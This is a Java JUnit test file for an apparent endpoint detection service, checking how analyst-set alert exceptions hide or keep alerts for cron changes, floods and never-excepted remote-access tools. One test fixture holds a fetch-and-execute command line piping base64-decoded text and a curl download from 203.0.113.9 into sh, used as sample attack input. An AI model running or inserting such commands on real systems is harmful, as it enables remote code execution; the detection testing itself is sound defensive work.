package bzh.vigie.collector.detect;

import static bzh.vigie.collector.store.Specimens.ANALYST;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.collector.review.NeverExcepted;
import bzh.vigie.collector.store.AgentId;
import bzh.vigie.collector.store.Alerts;
import bzh.vigie.collector.store.Alerts.Alert;
import bzh.vigie.collector.store.Alerts.Status;
import bzh.vigie.collector.store.Reach;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.Specimens;
import bzh.vigie.event.Event;
import bzh.vigie.event.Event.Change;
import bzh.vigie.event.Item;
import bzh.vigie.event.Observed;
import bzh.vigie.event.ProcessKey;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What exceptions do to what is found. */
final class ExceptionsTest {
    private static final Scope ALL = new Scope.All();

    @TempDir
    Path folder;

    @Test
    void whatAnExceptionCoversIsKeptAndNotToldUntilItEnds() throws Exception {
        try (Line line = new Line(folder)) {
            AgentId pc = line.enrol(1, Line.QUIMPER);
            line.send(pc, line.listed("linux.cron.system"));
            Reach reach = new Reach(
                    "vigie-linux-by-hand",
                    Optional.empty(),
                    Optional.of("/etc/cron.d/known*"),
                    Optional.empty(),
                    Optional.empty(),
                    Optional.of(Line.QUIMPER),
                    Optional.empty());
            long number = line.store.write(
                    s -> s.alertExceptions().add(ALL, false, reach, line.now.plus(Duration.ofDays(1)), ANALYST));
            line.send(pc, line.seen(Change.ADDED, Line.cron("known", "/opt/x", Item.Shipped.UNOWNED)));
            line.send(pc, line.seen(Change.ADDED, Line.cron("other", "/opt/z", Item.Shipped.UNOWNED)));
            line.send(
                    pc,
                    line.seen(
                            Change.ADDED,
                            Line.cron("known-too", "/opt/y", Item.Shipped.UNOWNED, Item.Trait.HIDING_NAME)));
            assertEquals(
                    List.of(Status.EXCEPTED, Status.NEW, Status.NEW),
                    line.alerts().stream().map(Alert::status).toList());
            assertEquals(
                    1,
                    line.store
                            .read(s -> s.alertExceptions().find(ALL, number))
                            .orElseThrow()
                            .hits());
            line.now = line.now.plus(Duration.ofDays(2));
            line.send(pc, line.seen(Change.REMOVED, Line.cron("known", "/opt/x", Item.Shipped.UNOWNED)));
            line.send(pc, line.seen(Change.ADDED, Line.cron("known", "/opt/x", Item.Shipped.UNOWNED)));
            Alert last = line.alerts().getLast();
            assertEquals("vigie-linux-by-hand", last.rule());
            assertEquals(Status.NEW, last.status());
        }
    }

    /** One process is one alert of the gravest rule, and what nobody wants to hear from that rule does not hide the next one. */
    @Test
    void anExceptionForTheBestRuleLeavesTheNextOne() throws Exception {
        try (Line line = new Line(folder)) {
            AgentId pc = line.enrol(1, Line.QUIMPER);
            String decoded = "vigie-linux-decode-to-shell";
            line.send(pc, decodesAndFetches(line, "/opt/backup/run"));
            Alert one = line.alerts().getFirst();
            assertEquals(1, line.alerts().size());
            assertEquals(decoded, one.rule());
            assertEquals(Alerts.Severity.HIGH, one.severity());
            assertEquals("vigie-linux-download-to-shell", one.evidence().get("also"));
            assertEquals(List.of("T1140", "T1027", "T1059.004", "T1105"), one.techniques());
            Reach reach = new Reach(
                    decoded,
                    Optional.empty(),
                    Optional.of("/opt/report/*"),
                    Optional.empty(),
                    Optional.empty(),
                    Optional.of(Line.QUIMPER),
                    Optional.empty());
            line.store.change(
                    s -> s.alertExceptions().add(ALL, false, reach, line.now.plus(Duration.ofDays(1)), ANALYST));
            line.send(pc, decodesAndFetches(line, "/opt/report/run"));
            assertEquals(
                    List.of(decoded + " NEW", decoded + " EXCEPTED", "vigie-linux-download-to-shell NEW"),
                    line.alerts().stream()
                            .map(alert -> alert.rule() + " " + alert.status())
                            .toList());
        }
    }

    private static Event decodesAndFetches(Line line, String image) {
        return new Event.ProcessStarted(
                line.at(0),
                "linux.process",
                new ProcessKey("boot-1", 42, 1),
                Observed.missed(Observed.Why.NOT_OFFERED),
                Observed.missed(Observed.Why.NOT_OFFERED),
                Observed.missed(Observed.Why.NOT_OFFERED),
                Observed.known(image),
                Observed.known(image + " -c 'echo aWQK | base64 -d | sh; curl http://203.0.113.9/x | sh'"),
                Observed.missed(Observed.Why.NOT_OFFERED),
                Observed.missed(Observed.Why.NOT_OFFERED),
                Observed.missed(Observed.Why.NOT_OFFERED),
                false);
    }

    /** It holds for what comes after it, and one host's flood fills no store because nobody is told of it. */
    @Test
    void anOpenAlertGoesOnCountingAndAFloodThatIsHiddenIsOneLine() throws Exception {
        try (Line line = new Line(folder)) {
            AgentId pc = line.enrol(1, Line.QUIMPER);
            line.send(pc, line.listed("linux.cron.system"));
            Item first = Line.cron("known", "/opt/x", Item.Shipped.UNOWNED);
            line.send(pc, line.seen(Change.ADDED, first));
            Reach reach = new Reach(
                    "vigie-linux-by-hand",
                    Optional.empty(),
                    Optional.of("/etc/cron.d/known*"),
                    Optional.empty(),
                    Optional.empty(),
                    Optional.of(Line.QUIMPER),
                    Optional.empty());
            line.store.change(
                    s -> s.alertExceptions().add(ALL, false, reach, line.now.plus(Duration.ofDays(1)), ANALYST));
            AgentId other = line.enrol(2, Line.QUIMPER);
            line.send(other, line.listed("linux.cron.system"));
            line.send(other, line.seen(Change.ADDED, first));
            assertEquals(2, line.alerts().getFirst().count());
            for (int i = 0; i < 3 * Raising.MOST_IN_AN_HOUR; i++) {
                line.put(pc, line.seen(Change.ADDED, Line.cron("known" + i, "/opt/" + i, Item.Shipped.UNOWNED)));
            }
            line.send(pc, line.listed("linux.cron.system"));
            List<Alert> hidden = line.alerts().stream()
                    .filter(alert -> alert.status() == Status.EXCEPTED)
                    .toList();
            assertEquals(Raising.MOST_IN_AN_HOUR + 1, hidden.size());
            assertEquals(
                    3 * Raising.MOST_IN_AN_HOUR,
                    hidden.stream().mapToInt(Alert::count).sum());
        }
    }

    @Test
    void whatIsNeverPardonedIsNeverHidden() {
        for (Map<String, String> evidence : List.of(
                Map.of("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
                Map.of("target", "/usr/bin/python3.11"),
                Map.of("target", "C:\\Program Files\\X\\x.exe", "Product", "AnyDesk"),
                Map.of("name", "TeamViewer"),
                Map.of("location", "windows.remote.x"),
                Map.of("target", "C:\\Users\\a\\AppData\\Local\\x.exe"),
                Map.of("target", "C:\\Program Files\\X\\x.exe", "replaceable_by", "Users"),
                Map.of("target", "C:\\Program Files\\X\\x.exe", "traits", "unquoted-path, signature-broken"))) {
            assertTrue(NeverExcepted.is(alert("a-rule", evidence)), evidence::toString);
        }
        Map<String, String> ordinary =
                Map.of("target", "C:\\Program Files\\X\\x.exe", "traits", "unquoted-path", "signer", "X");
        assertFalse(NeverExcepted.is(alert("a-rule", ordinary)));
        assertTrue(NeverExcepted.is(alert("vigie-return", ordinary)));
        assertTrue(NeverExcepted.is(alert("vigie-indicator-seen", ordinary)));
    }

    private static Alert alert(String rule, Map<String, String> evidence) {
        Alert a = Specimens.alert("a", Line.QUIMPER, 1, "c", 1);
        return new Alert(
                a.id(),
                rule,
                a.severity(),
                a.techniques(),
                a.commune(),
                a.host(),
                a.hostname(),
                a.cause(),
                a.firstEvent(),
                a.time(),
                a.hostTime(),
                evidence,
                a.status(),
                a.count(),
                a.lastTime());
    }
}
